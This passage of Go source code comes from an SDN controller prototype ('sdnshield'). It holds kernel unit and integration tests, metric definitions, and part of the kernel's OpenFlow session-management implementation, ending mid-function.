	ctrl, _ := of.Pipe() // switch side never speaks
	start := time.Now()
	if _, err := k.AcceptSwitch(ctrl); !errors.Is(err, ErrTimeout) {
		t.Fatalf("err = %v, want ErrTimeout", err)
	}
	if elapsed := time.Since(start); elapsed > time.Second {
		t.Fatalf("handshake took %v to time out", elapsed)
	}
}

// TestDisconnectFailsPendingImmediately: a synchronous request against a
// switch whose connection just died must fail with ErrSwitchDisconnected
// at once, not ride out the full request timeout.
func TestDisconnectFailsPendingImmediately(t *testing.T) {
	k := New(nil, nil) // default 5 s timeout
	defer k.Stop()

	var mu sync.Mutex
	var events []string
	k.Subscribe(EventTopology, func(ev Event) {
		mu.Lock()
		events = append(events, ev.TopoChange.What)
		mu.Unlock()
	})

	sw := acceptFake(t, k, 42)
	errCh := make(chan error, 1)
	start := time.Now()
	go func() {
		_, err := k.SwitchStats(42)
		errCh <- err
	}()
	time.Sleep(20 * time.Millisecond) // let the request register
	sw.Close()

	select {
	case err := <-errCh:
		if !errors.Is(err, ErrSwitchDisconnected) {
			t.Fatalf("err = %v, want ErrSwitchDisconnected", err)
		}
		if elapsed := time.Since(start); elapsed > time.Second {
			t.Fatalf("pending request took %v to fail", elapsed)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("pending request still blocked after disconnect")
	}

	// The session is gone: the switch is forgotten and new requests fail
	// with ErrUnknownSwitch immediately.
	waitFor(t, time.Second, "switch removal", func() bool {
		return len(k.Switches()) == 0
	})
	if _, err := k.SwitchStats(42); !errors.Is(err, ErrUnknownSwitch) {
		t.Fatalf("post-teardown err = %v, want ErrUnknownSwitch", err)
	}
	waitFor(t, time.Second, "switch-removed event", func() bool {
		mu.Lock()
		defer mu.Unlock()
		for _, e := range events {
			if e == "switch-removed" {
				return true
			}
		}
		return false
	})
}

// TestRetryRecoversFromTransientDrops: with retries configured, a stats
// request whose first attempts are dropped by the fault injector still
// succeeds.
func TestRetryRecoversFromTransientDrops(t *testing.T) {
	b, err := netsim.Linear(1)
	if err != nil {
		t.Fatal(err)
	}
	defer b.Net.Stop()
	k := New(b.Topo, nil, KernelConfig{
		RequestTimeout: 40 * time.Millisecond,
		MaxRetries:     3,
		RetryBackoff:   5 * time.Millisecond,
		Seed:           7,
	})
	defer k.Stop()

	sw := b.Net.Switches()[0]
	ctrl, swSide := of.Pipe()
	// Controller-side sends: 0=HELLO, 1=FEATURES_REQUEST, 2=stats attempt
	// one, 3=retry one. Drop both; the second retry goes through.
	fc := faults.Wrap(ctrl, faults.Script{Send: map[int]faults.Fault{
		2: {Kind: faults.Drop},
		3: {Kind: faults.Drop},
	}})
	if err := sw.Start(swSide); err != nil {
		t.Fatal(err)
	}
	if _, err := k.AcceptSwitch(fc); err != nil {
		t.Fatal(err)
	}

	start := time.Now()
	if _, err := k.SwitchStats(sw.DPID()); err != nil {
		t.Fatalf("stats with retries failed: %v", err)
	}
	if elapsed := time.Since(start); elapsed < 80*time.Millisecond {
		t.Errorf("succeeded after %v; two timed-out attempts should cost >= 80ms", elapsed)
	}
	if st := fc.Stats(); st.Dropped != 2 {
		t.Errorf("fault stats = %+v, want 2 drops", st)
	}
}

// TestRetriesExhaustedSurfacesTimeout: when every attempt is dropped the
// caller finally sees ErrTimeout, not a hang.
func TestRetriesExhaustedSurfacesTimeout(t *testing.T) {
	b, err := netsim.Linear(1)
	if err != nil {
		t.Fatal(err)
	}
	defer b.Net.Stop()
	k := New(b.Topo, nil, KernelConfig{
		RequestTimeout: 20 * time.Millisecond,
		MaxRetries:     2,
		RetryBackoff:   2 * time.Millisecond,
	})
	defer k.Stop()

	sw := b.Net.Switches()[0]
	ctrl, swSide := of.Pipe()
	fc := faults.Wrap(ctrl, faults.Script{Send: map[int]faults.Fault{
		2: {Kind: faults.Drop}, 3: {Kind: faults.Drop}, 4: {Kind: faults.Drop},
	}})
	if err := sw.Start(swSide); err != nil {
		t.Fatal(err)
	}
	if _, err := k.AcceptSwitch(fc); err != nil {
		t.Fatal(err)
	}
	if _, err := k.SwitchStats(sw.DPID()); !errors.Is(err, ErrTimeout) {
		t.Fatalf("err = %v, want ErrTimeout", err)
	}
}

// TestProbeDeclaresDeadSwitch: a switch that handshakes and then goes
// silent (without closing its connection) is declared dead after
// ProbeMisses missed echoes and torn down.
func TestProbeDeclaresDeadSwitch(t *testing.T) {
	k := New(nil, nil, KernelConfig{
		ProbeInterval: 15 * time.Millisecond,
		ProbeTimeout:  25 * time.Millisecond,
		ProbeMisses:   2,
	})
	defer k.Stop()

	acceptFake(t, k, 7) // never answers echoes
	waitFor(t, 2*time.Second, "probe-driven teardown", func() bool {
		return len(k.Switches()) == 0
	})
	if _, err := k.SwitchStats(7); !errors.Is(err, ErrUnknownSwitch) {
		t.Fatalf("err = %v, want ErrUnknownSwitch", err)
	}
}

// TestProbedHealthySwitchStaysUp: a responsive switch survives liveness
// probing indefinitely.
func TestProbedHealthySwitchStaysUp(t *testing.T) {
	b, err := netsim.Linear(1)
	if err != nil {
		t.Fatal(err)
	}
	defer b.Net.Stop()
	k := New(b.Topo, nil, KernelConfig{
		ProbeInterval: 10 * time.Millisecond,
		ProbeTimeout:  50 * time.Millisecond,
		ProbeMisses:   2,
	})
	defer k.Stop()

	sw := b.Net.Switches()[0]
	ctrl, swSide := of.Pipe()
	if err := sw.Start(swSide); err != nil {
		t.Fatal(err)
	}
	if _, err := k.AcceptSwitch(ctrl); err != nil {
		t.Fatal(err)
	}
	time.Sleep(120 * time.Millisecond) // ~12 probe rounds
	if len(k.Switches()) != 1 {
		t.Fatal("healthy switch was torn down by probing")
	}
	if _, err := k.SwitchStats(sw.DPID()); err != nil {
		t.Fatalf("stats after probing: %v", err)
	}
}

// TestInsertFlowUndoesShadowOnSendFailure: a flow-mod that cannot be
// transmitted must not linger in the shadow table.
func TestInsertFlowUndoesShadowOnSendFailure(t *testing.T) {
	k := New(nil, nil)
	defer k.Stop()
	sw := acceptFake(t, k, 9)

	m := of.NewMatch().Set(of.FieldTPDst, 80)
	if err := k.InsertFlow("app", 9, FlowSpec{Match: m, Priority: 4, Actions: []of.Action{of.Output(1)}}); err != nil {
		t.Fatal(err)
	}
	sw.Close()
	waitFor(t, time.Second, "teardown", func() bool { return len(k.Switches()) == 0 })
	// The switch is gone entirely — inserting against it errors without
	// touching any shadow state.
	if err := k.InsertFlow("app", 9, FlowSpec{Match: m, Priority: 5}); !errors.Is(err, ErrUnknownSwitch) {
		t.Fatalf("err = %v, want ErrUnknownSwitch", err)
	}
}
