package controller

import "sdnshield/internal/obs"

// Kernel instrumentation. All instruments live in the process-wide obs
// registry: multiple kernels in one process (tests, the bench harness's
// baseline/shielded pairs) accumulate into the same cumulative series,
// which is the Prometheus counter model.
var (
	mSessionsAccepted = obs.Default().Counter("sdnshield_kernel_sessions_accepted_total",
		"Switch sessions accepted (handshake completed).")
	mSessionTeardowns = obs.Default().Counter("sdnshield_kernel_session_teardowns_total",
		"Switch sessions torn down (connection error, liveness failure or shutdown).")
	mSwitchSessions = obs.Default().Gauge("sdnshield_kernel_switch_sessions",
		"Currently connected switch sessions.")
	mRetries = obs.Default().Counter("sdnshield_kernel_request_retries_total",
		"Synchronous switch requests re-issued after a timeout.")
	mProbes = obs.Default().Counter("sdnshield_kernel_probes_total",
		"Echo liveness probes sent.")
	mProbeMisses = obs.Default().Counter("sdnshield_kernel_probe_misses_total",
		"Echo liveness probes that timed out.")
	mRequestSeconds = obs.Default().Histogram("sdnshield_kernel_request_seconds",
		"Synchronous switch request round-trip latency (stats, barriers, echo), including retries.")
	mRequestTimeouts = obs.Default().Counter("sdnshield_kernel_request_failures_total",
		"Synchronous switch requests that failed.", "reason", "timeout")
	mRequestDisconnects = obs.Default().Counter("sdnshield_kernel_request_failures_total",
		"Synchronous switch requests that failed.", "reason", "disconnected")

	mOpInsert = obs.Default().Histogram("sdnshield_kernel_op_seconds",
		"Kernel flow/packet service latency (shadow-table update plus wire send).", "op", "insert_flow")
	mOpModify = obs.Default().Histogram("sdnshield_kernel_op_seconds",
		"Kernel flow/packet service latency (shadow-table update plus wire send).", "op", "modify_flow")
	mOpDelete = obs.Default().Histogram("sdnshield_kernel_op_seconds",
		"Kernel flow/packet service latency (shadow-table update plus wire send).", "op", "delete_flow")
	mOpPacketOut = obs.Default().Histogram("sdnshield_kernel_op_seconds",
		"Kernel flow/packet service latency (shadow-table update plus wire send).", "op", "packet_out")
)
