package controller

import (
	"net"
	"sync"
	"testing"
	"time"

	"sdnshield/internal/netsim"
	"sdnshield/internal/of"
)

// TestControllerOverRealTCP runs the full control channel over actual TCP
// sockets — the wire codec in anger: netsim switches dial the kernel's
// listener, the handshake completes, flows install, packets flow, and
// stats come back, exactly as with the in-memory transport.
func TestControllerOverRealTCP(t *testing.T) {
	b, err := netsim.Linear(2)
	if err != nil {
		t.Fatal(err)
	}
	defer b.Net.Stop()
	k := New(b.Topo, nil)
	defer k.Stop()

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()

	// Controller side: accept connections and hand them to the kernel.
	var acceptWG sync.WaitGroup
	acceptWG.Add(1)
	accepted := make(chan of.DPID, 2)
	go func() {
		defer acceptWG.Done()
		for i := 0; i < 2; i++ {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			dpid, err := k.AcceptSwitch(of.NewNetConn(conn))
			if err != nil {
				t.Errorf("accept switch: %v", err)
				return
			}
			accepted <- dpid
		}
	}()

	// Switch side: each simulated switch dials in.
	for _, sw := range b.Net.Switches() {
		conn, err := net.Dial("tcp", ln.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		if err := sw.Start(of.NewNetConn(conn)); err != nil {
			t.Fatal(err)
		}
	}
	for i := 0; i < 2; i++ {
		select {
		case <-accepted:
		case <-time.After(5 * time.Second):
			t.Fatal("handshake over TCP timed out")
		}
	}
	acceptWG.Wait()

	// Install a path end to end and verify the data plane.
	h2 := b.Hosts[1]
	match := of.NewMatch().Set(of.FieldIPDst, uint64(h2.IP()))
	if err := k.InsertFlow("router", 1, FlowSpec{Match: match, Priority: 7, Actions: []of.Action{of.Output(3)}}); err != nil {
		t.Fatal(err)
	}
	if err := k.InsertFlow("router", 2, FlowSpec{Match: match, Priority: 7, Actions: []of.Action{of.Output(1)}}); err != nil {
		t.Fatal(err)
	}
	if err := k.Barrier(1); err != nil {
		t.Fatal(err)
	}
	if err := k.Barrier(2); err != nil {
		t.Fatal(err)
	}

	b.Hosts[0].SendTCP(h2, 777, 80, of.TCPFlagSYN, []byte("over tcp"))
	pkt, ok := h2.WaitFor(func(p *of.Packet) bool { return p.TPDst == 80 }, 2*time.Second)
	if !ok {
		t.Fatal("packet not delivered over TCP control channel")
	}
	if string(pkt.Payload) != "over tcp" {
		t.Errorf("payload = %q", pkt.Payload)
	}

	// Synchronous stats round trip across the socket.
	flows, err := k.FlowStats(1, nil)
	if err != nil || len(flows) != 1 || flows[0].Packets != 1 {
		t.Errorf("FlowStats over TCP = %v, %v", flows, err)
	}

	// Packet-in events cross the socket too.
	got := make(chan *of.PacketIn, 1)
	k.Subscribe(EventPacketIn, func(ev Event) {
		select {
		case got <- ev.PacketIn:
		default:
		}
	})
	b.Hosts[1].SendTCP(b.Hosts[0], 888, 99, 0, nil) // no rule: table miss
	select {
	case pin := <-got:
		if pin.Packet.TPDst != 99 {
			t.Errorf("packet-in content = %v", pin.Packet)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("no packet-in over TCP")
	}
}
