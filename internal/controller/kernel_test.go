package controller

import (
	"sync"
	"testing"
	"time"

	"sdnshield/internal/flowtable"
	"sdnshield/internal/netsim"
	"sdnshield/internal/of"
	"sdnshield/internal/topology"
)

// harness wires a Linear(n) netsim network to a kernel.
type harness struct {
	kernel *Kernel
	built  *netsim.Built
}

func newHarness(t *testing.T, switches int) *harness {
	t.Helper()
	b, err := netsim.Linear(switches)
	if err != nil {
		t.Fatal(err)
	}
	k := New(b.Topo, nil)
	for _, sw := range b.Net.Switches() {
		ctrlSide, swSide := of.Pipe()
		if err := sw.Start(swSide); err != nil {
			t.Fatal(err)
		}
		if _, err := k.AcceptSwitch(ctrlSide); err != nil {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() {
		k.Stop()
		b.Net.Stop()
	})
	return &harness{kernel: k, built: b}
}

func TestHandshakeRegistersSwitches(t *testing.T) {
	h := newHarness(t, 3)
	if got := len(h.kernel.Switches()); got != 3 {
		t.Fatalf("registered %d switches", got)
	}
	// Duplicate DPID rejected.
	b2, err := netsim.Linear(1)
	if err != nil {
		t.Fatal(err)
	}
	defer b2.Net.Stop()
	sw := b2.Net.Switches()[0] // DPID 1 collides
	ctrlSide, swSide := of.Pipe()
	if err := sw.Start(swSide); err != nil {
		t.Fatal(err)
	}
	if _, err := h.kernel.AcceptSwitch(ctrlSide); err == nil {
		t.Error("duplicate DPID accepted")
	}
}

func TestInsertFlowEndToEnd(t *testing.T) {
	h := newHarness(t, 2)
	h2 := h.built.Hosts[1]

	spec := FlowSpec{
		Match:    of.NewMatch().Set(of.FieldIPDst, uint64(h2.IP())),
		Priority: 10,
		Actions:  []of.Action{of.Output(3)},
	}
	if err := h.kernel.InsertFlow("router", 1, spec); err != nil {
		t.Fatal(err)
	}
	spec2 := spec
	spec2.Actions = []of.Action{of.Output(1)}
	if err := h.kernel.InsertFlow("router", 2, spec2); err != nil {
		t.Fatal(err)
	}
	if err := h.kernel.Barrier(1); err != nil {
		t.Fatal(err)
	}
	if err := h.kernel.Barrier(2); err != nil {
		t.Fatal(err)
	}

	h.built.Hosts[0].SendTCP(h2, 1000, 80, of.TCPFlagSYN, []byte("data"))
	if _, ok := h2.WaitFor(func(p *of.Packet) bool { return p.TPDst == 80 }, time.Second); !ok {
		t.Fatal("flow not installed end to end")
	}

	// Shadow table carries ownership.
	if owner, ok := h.kernel.FlowOwner(1, spec.Match, 10); !ok || owner != "router" {
		t.Errorf("FlowOwner = %q, %v", owner, ok)
	}
	if n := h.kernel.RuleCount("router", 1); n != 1 {
		t.Errorf("RuleCount = %d", n)
	}
	flows, err := h.kernel.Flows(1, nil)
	if err != nil || len(flows) != 1 || flows[0].Owner != "router" {
		t.Errorf("Flows = %v, %v", flows, err)
	}

	// Unknown switch errors.
	if err := h.kernel.InsertFlow("router", 99, spec); err == nil {
		t.Error("unknown switch accepted")
	}
}

func TestDeleteAndModifyFlow(t *testing.T) {
	h := newHarness(t, 1)
	m := of.NewMatch().Set(of.FieldTPDst, 80)
	if err := h.kernel.InsertFlow("a", 1, FlowSpec{Match: m, Priority: 5, Actions: []of.Action{of.Output(1)}}); err != nil {
		t.Fatal(err)
	}
	if err := h.kernel.ModifyFlow(1, m, 5, []of.Action{of.Drop()}); err != nil {
		t.Fatal(err)
	}
	if err := h.kernel.Barrier(1); err != nil {
		t.Fatal(err)
	}
	flows, _ := h.kernel.Flows(1, nil)
	if len(flows) != 1 || flows[0].Actions[0].Type != of.ActionDrop {
		t.Fatalf("modify not mirrored: %v", flows)
	}
	sw, _ := h.built.Net.Switch(1)
	if got := sw.Table().Entries(nil); len(got) != 1 || got[0].Actions[0].Type != of.ActionDrop {
		t.Fatalf("modify not applied on switch: %v", got)
	}

	if err := h.kernel.DeleteFlow(1, of.NewMatch(), 0, false); err != nil {
		t.Fatal(err)
	}
	if err := h.kernel.Barrier(1); err != nil {
		t.Fatal(err)
	}
	if flows, _ := h.kernel.Flows(1, nil); len(flows) != 0 {
		t.Error("shadow table not emptied")
	}
	if sw.Table().Len() != 0 {
		t.Error("switch table not emptied")
	}
}

func TestPacketInEventAndProvenance(t *testing.T) {
	h := newHarness(t, 2)
	var mu sync.Mutex
	var got []*of.PacketIn
	h.kernel.Subscribe(EventPacketIn, func(ev Event) {
		mu.Lock()
		got = append(got, ev.PacketIn)
		mu.Unlock()
	})

	h.built.Hosts[0].SendTCP(h.built.Hosts[1], 1, 2, 0, nil)

	deadline := time.Now().Add(time.Second)
	for {
		mu.Lock()
		n := len(got)
		mu.Unlock()
		if n > 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("no packet-in event")
		}
		time.Sleep(time.Millisecond)
	}
	mu.Lock()
	pin := got[0]
	mu.Unlock()
	if !h.kernel.PacketInSeen(pin.DPID, pin.BufferID) {
		t.Error("provenance window should remember the buffer")
	}
	if h.kernel.PacketInSeen(pin.DPID, 0xdeadbeef) {
		t.Error("unknown buffer claimed as seen")
	}
	if h.kernel.PacketInSeen(99, pin.BufferID) {
		t.Error("unknown switch claimed as seen")
	}

	// Packet-out with the buffered packet completes delivery.
	if err := h.kernel.SendPacketOut(pin.DPID, pin.BufferID, of.PortNone, []of.Action{of.Output(3)}, nil); err != nil {
		t.Fatal(err)
	}
}

func TestStatsServices(t *testing.T) {
	h := newHarness(t, 2)
	m := of.NewMatch().Set(of.FieldIPDst, uint64(h.built.Hosts[1].IP()))
	if err := h.kernel.InsertFlow("a", 1, FlowSpec{Match: m, Priority: 5, Actions: []of.Action{of.Output(3)}}); err != nil {
		t.Fatal(err)
	}
	if err := h.kernel.Barrier(1); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		h.built.Hosts[0].SendTCP(h.built.Hosts[1], 1, 80, 0, nil)
	}

	flows, err := h.kernel.FlowStats(1, nil)
	if err != nil || len(flows) != 1 || flows[0].Packets != 3 {
		t.Errorf("FlowStats = %v, %v", flows, err)
	}
	ports, err := h.kernel.PortStats(1, of.PortNone)
	if err != nil || len(ports) != 3 {
		t.Errorf("PortStats = %v, %v", ports, err)
	}
	ss, err := h.kernel.SwitchStats(1)
	if err != nil || ss.FlowCount != 1 || ss.PacketsTotal != 3 {
		t.Errorf("SwitchStats = %+v, %v", ss, err)
	}
	if _, err := h.kernel.FlowStats(42, nil); err == nil {
		t.Error("stats on unknown switch accepted")
	}
}

func TestTopologyEventsAndModel(t *testing.T) {
	h := newHarness(t, 2)
	var mu sync.Mutex
	var topoEvents []string
	h.kernel.Subscribe(EventTopology, func(ev Event) {
		mu.Lock()
		topoEvents = append(topoEvents, ev.TopoChange.What)
		mu.Unlock()
	})

	// Controller-view link manipulation.
	h.kernel.Topology().AddSwitch(50, nil)
	if err := h.kernel.AddLink(topology.Link{A: 1, APort: 3, B: 50, BPort: 1}); err != nil {
		t.Fatal(err)
	}
	h.kernel.RemoveLink(1, 50)
	if err := h.kernel.AddLink(topology.Link{A: 1, B: 77}); err == nil {
		t.Error("link to unknown switch accepted")
	}

	// Port-status from the data plane becomes a topology event.
	sw, _ := h.built.Net.Switch(1)
	if err := sw.SetPortState(3, false); err != nil {
		t.Fatal(err)
	}

	deadline := time.Now().Add(time.Second)
	for {
		mu.Lock()
		n := len(topoEvents)
		mu.Unlock()
		if n >= 3 {
			break
		}
		if time.Now().After(deadline) {
			mu.Lock()
			t.Fatalf("topology events = %v", topoEvents)
		}
		time.Sleep(time.Millisecond)
	}
	mu.Lock()
	joined := ""
	for _, e := range topoEvents {
		joined += e + ";"
	}
	mu.Unlock()
	for _, want := range []string{"link-added", "link-removed", "port-down"} {
		if !contains(joined, want) {
			t.Errorf("missing topology event %q in %q", want, joined)
		}
	}

	// Data model publication + notification.
	var modelEvents int
	done := make(chan struct{}, 1)
	h.kernel.Subscribe(EventDataModel, func(ev Event) {
		if ev.ModelPath == "alto/cost" {
			modelEvents++
			select {
			case done <- struct{}{}:
			default:
			}
		}
	})
	h.kernel.Publish("alto/cost", map[string]int{"1-2": 10})
	select {
	case <-done:
	case <-time.After(time.Second):
		t.Fatal("no data-model event")
	}
	if v, ok := h.kernel.ReadModel("alto/cost"); !ok || v == nil {
		t.Error("model read failed")
	}
	if _, ok := h.kernel.ReadModel("missing"); ok {
		t.Error("missing path resolved")
	}
}

func TestUnsubscribe(t *testing.T) {
	h := newHarness(t, 1)
	calls := 0
	id := h.kernel.Subscribe(EventDataModel, func(Event) { calls++ })
	h.kernel.Publish("x", 1)
	h.kernel.Unsubscribe(EventDataModel, id)
	h.kernel.Publish("x", 2)
	if calls != 1 {
		t.Errorf("calls = %d, want 1", calls)
	}
}

func TestFlowRemovedMirrorsShadow(t *testing.T) {
	h := newHarness(t, 1)
	m := of.NewMatch().Set(of.FieldTPDst, 443)
	if err := h.kernel.InsertFlow("a", 1, FlowSpec{Match: m, Priority: 9, Actions: []of.Action{of.Output(1)}}); err != nil {
		t.Fatal(err)
	}
	// Delete directly on the switch (as if it timed out) and let the
	// FlowRemoved notification clean the shadow.
	var seen sync.WaitGroup
	seen.Add(1)
	h.kernel.Subscribe(EventFlowRemoved, func(ev Event) { seen.Done() })
	sw, _ := h.built.Net.Switch(1)
	// Expire via switch-side delete: send a FlowMod delete from a second
	// kernel? Simplest: use the switch's own table and notification path.
	sw.Table().Add(entryFor(m, 9)) // ensure present even if flow-mod raced
	if err := h.kernel.DeleteFlow(1, m, 0, false); err != nil {
		t.Fatal(err)
	}
	waitTimeout(t, &seen, time.Second, "flow-removed event")
	if flows, _ := h.kernel.Flows(1, nil); len(flows) != 0 {
		t.Errorf("shadow retains %v", flows)
	}
}

func entryFor(m *of.Match, prio uint16) flowtable.Entry {
	return flowtable.Entry{Match: m, Priority: prio, Actions: []of.Action{of.Output(1)}}
}

func contains(s, sub string) bool {
	return len(s) >= len(sub) && (s == sub || len(sub) == 0 ||
		(len(s) > 0 && indexOf(s, sub) >= 0))
}

func indexOf(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return i
		}
	}
	return -1
}

func waitTimeout(t *testing.T, wg *sync.WaitGroup, d time.Duration, what string) {
	t.Helper()
	done := make(chan struct{})
	go func() {
		wg.Wait()
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(d):
		t.Fatalf("timed out waiting for %s", what)
	}
}
