// Package controller implements the SDN controller kernel the SDNShield
// prototype plugs into: OpenFlow session management, the controller-side
// shadow of every switch's flow table (with per-app ownership, the state
// SDNShield's OWN_FLOWS and MAX_RULE_COUNT filters consult), a topology
// view, synchronous statistics queries, a model-driven data store (the
// OpenDaylight-style northbound used by the ALTO scenario) and an event
// bus.
//
// The kernel itself performs no permission checking — it is the trusted
// computing base. internal/isolation wraps its services per app and
// routes every call through the permission engine, mirroring the paper's
// kernel/app split (§VI-A).
package controller

import (
	"errors"
	"fmt"
	"math/rand"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"sdnshield/internal/flowtable"
	"sdnshield/internal/hostsim"
	"sdnshield/internal/obs"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/obs/recorder"
	"sdnshield/internal/of"
	"sdnshield/internal/topology"
)

// Origin attributes a kernel request to the mediated app call that
// caused it: the calling app and the correlation ID minted at the
// isolation boundary. The zero Origin means "no call provenance"
// (kernel-internal or legacy callers).
type Origin struct {
	App  string
	Corr uint64
}

// auditWire records the outcome of a wire-level send attributed to org:
// an audit event and, when the flight recorder is on, a kernel-op frame
// carrying the same correlation ID, so a bundle can follow one mediated
// call from the isolation boundary down to the wire.
func auditWire(kind audit.Kind, org Origin, op string, dpid of.DPID, sendErr error) {
	if recorder.On() {
		code := recorder.CodeOK
		if sendErr != nil {
			code = recorder.CodeError
		}
		recorder.Record(recorder.Frame{
			Kind: recorder.KindKernelOp,
			Code: code,
			App:  recorder.Intern(org.App),
			Op:   recorder.Intern(op),
			Corr: org.Corr,
			Arg:  int64(dpid),
		})
	}
	if !audit.On() {
		return
	}
	ev := audit.Event{
		Kind:    kind,
		Verdict: audit.VerdictSent,
		App:     org.App,
		Corr:    org.Corr,
		Op:      op,
		DPID:    uint64(dpid),
	}
	if sendErr != nil {
		ev.Verdict = audit.VerdictSendFailed
		ev.Detail = sendErr.Error()
	}
	audit.Emit(ev)
}

// ErrUnknownSwitch reports an operation against an unregistered DPID.
var ErrUnknownSwitch = errors.New("controller: unknown switch")

// ErrTimeout reports a synchronous request that got no reply in time.
var ErrTimeout = errors.New("controller: request timed out")

// ErrSwitchDisconnected reports an operation against a switch whose
// session died: the connection failed, or liveness probing declared the
// switch dead. Unlike ErrTimeout it surfaces immediately — pending
// requests do not ride out the request timeout.
var ErrSwitchDisconnected = errors.New("controller: switch disconnected")

// recentBuffers bounds the per-switch packet-in provenance window.
const recentBuffers = 4096

// swHandle is the kernel's per-switch session state.
type swHandle struct {
	dpid of.DPID
	conn of.Conn

	xid atomic.Uint32

	mu      sync.Mutex
	pending map[uint32]chan of.Message
	// buffers tracks recently seen packet-in buffer ids, the provenance
	// witness behind the FROM_PKT_IN packet-out filter.
	buffers map[uint32]bool
	bufFIFO []uint32

	// events decouples handler execution from the receive loop, so
	// handlers can issue synchronous switch requests (stats, barriers)
	// without deadlocking the reply path.
	events chan of.Message

	// pendingRemovals remembers the owners of entries the controller just
	// deleted, keyed by match+priority, so the switch's FlowRemoved
	// notification can still report the owner after the shadow entry is
	// gone.
	pendingRemovals map[string]string

	// closed is shut on session teardown; every waiter on a synchronous
	// request selects on it so disconnects surface immediately.
	closeOnce sync.Once
	closed    chan struct{}

	done         chan struct{}
	dispatchDone chan struct{}
	probeDone    chan struct{} // nil when liveness probing is disabled
}

func (h *swHandle) nextXID() uint32 { return h.xid.Add(1) }

// removalKey identifies a deleted entry for owner resolution.
func removalKey(m *of.Match, priority uint16) string {
	return m.Key() + "|" + strconv.Itoa(int(priority))
}

// Kernel is the trusted controller core.
type Kernel struct {
	topo *topology.Topology
	host *hostsim.HostOS
	cfg  KernelConfig

	jmu   sync.Mutex
	jrand *rand.Rand // backoff jitter, seeded for reproducibility

	mu       sync.RWMutex
	switches map[of.DPID]*swHandle
	shadow   map[of.DPID]*flowtable.Table

	subMu   sync.RWMutex
	subs    map[EventKind]map[int]Handler
	nextSub int

	modelMu sync.RWMutex
	model   map[string]interface{}

	closed atomic.Bool
}

// New builds a kernel around a topology view and host OS. Both may be
// nil, in which case fresh instances are created. An optional
// KernelConfig tunes session resilience (request timeout, retries,
// liveness probing); omitting it keeps the historical defaults.
func New(topo *topology.Topology, host *hostsim.HostOS, cfg ...KernelConfig) *Kernel {
	if topo == nil {
		topo = topology.New()
	}
	if host == nil {
		host = hostsim.NewHostOS()
	}
	var c KernelConfig
	if len(cfg) > 0 {
		c = cfg[0]
	}
	c.fill()
	return &Kernel{
		topo:     topo,
		host:     host,
		cfg:      c,
		jrand:    rand.New(rand.NewSource(c.Seed)),
		switches: make(map[of.DPID]*swHandle),
		shadow:   make(map[of.DPID]*flowtable.Table),
		subs:     make(map[EventKind]map[int]Handler),
		model:    make(map[string]interface{}),
	}
}

// Config returns the kernel's resolved session configuration.
func (k *Kernel) Config() KernelConfig { return k.cfg }

// Topology exposes the kernel's topology view.
func (k *Kernel) Topology() *topology.Topology { return k.topo }

// HostOS exposes the simulated host operating system.
func (k *Kernel) HostOS() *hostsim.HostOS { return k.host }

// AcceptSwitch performs the OpenFlow handshake on a fresh control
// connection, registers the switch and starts its receive loop.
func (k *Kernel) AcceptSwitch(conn of.Conn) (of.DPID, error) {
	if err := conn.Send(&of.Hello{Header: of.Header{Xid: 1}}); err != nil {
		return 0, fmt.Errorf("hello: %w", err)
	}
	if err := conn.Send(&of.FeaturesRequest{Header: of.Header{Xid: 2}}); err != nil {
		return 0, fmt.Errorf("features request: %w", err)
	}
	// The deadline must bound the Recv itself, not just the loop: a
	// switch that goes silent mid-handshake would otherwise block
	// AcceptSwitch forever.
	var features *of.FeaturesReply
	type recvRes struct {
		msg of.Message
		err error
	}
	recvCh := make(chan recvRes, 1)
	recv := func() {
		m, err := conn.Recv()
		recvCh <- recvRes{msg: m, err: err}
	}
	go recv()
	timer := time.NewTimer(k.cfg.RequestTimeout)
	defer timer.Stop()
	for features == nil {
		select {
		case <-timer.C:
			conn.Close() // unblock the pending reader
			return 0, ErrTimeout
		case r := <-recvCh:
			if r.err != nil {
				return 0, fmt.Errorf("handshake: %w", r.err)
			}
			if m, ok := r.msg.(*of.FeaturesReply); ok {
				features = m
			} else {
				// Symmetric hello / pre-handshake noise is ignored.
				go recv()
			}
		}
	}

	h := &swHandle{
		dpid:            features.DPID,
		conn:            conn,
		pending:         make(map[uint32]chan of.Message),
		buffers:         make(map[uint32]bool),
		pendingRemovals: make(map[string]string),
		events:          make(chan of.Message, 4096),
		closed:          make(chan struct{}),
		done:            make(chan struct{}),
		dispatchDone:    make(chan struct{}),
	}
	h.xid.Store(100)

	k.mu.Lock()
	if _, dup := k.switches[features.DPID]; dup {
		k.mu.Unlock()
		return 0, fmt.Errorf("controller: switch %v already connected", features.DPID)
	}
	k.switches[features.DPID] = h
	k.shadow[features.DPID] = flowtable.New(0)
	k.mu.Unlock()

	k.topo.AddSwitch(features.DPID, features.Ports)
	k.emit(Event{Kind: EventTopology, TopoChange: &TopoChange{What: "switch-added", DPID: features.DPID}})

	mSessionsAccepted.Inc()
	mSwitchSessions.Add(1)
	if audit.On() {
		audit.Emit(audit.Event{Kind: audit.KindSwitch, Verdict: audit.VerdictConnect, DPID: uint64(features.DPID)})
	}

	go k.recvLoop(h)
	go k.dispatchLoop(h)
	if k.cfg.ProbeInterval > 0 {
		h.probeDone = make(chan struct{})
		go k.probeLoop(h)
	}
	return features.DPID, nil
}

// Stop closes every switch connection and waits for the receive loops.
func (k *Kernel) Stop() {
	if k.closed.Swap(true) {
		return
	}
	k.mu.Lock()
	handles := make([]*swHandle, 0, len(k.switches))
	for _, h := range k.switches {
		handles = append(handles, h)
	}
	k.mu.Unlock()
	for _, h := range handles {
		h.conn.Close()
		<-h.done
		<-h.dispatchDone
		if h.probeDone != nil {
			<-h.probeDone
		}
	}
}

// Switches returns the connected DPIDs via the topology view.
func (k *Kernel) Switches() []topology.SwitchInfo { return k.topo.Switches() }

func (k *Kernel) handle(dpid of.DPID) (*swHandle, error) {
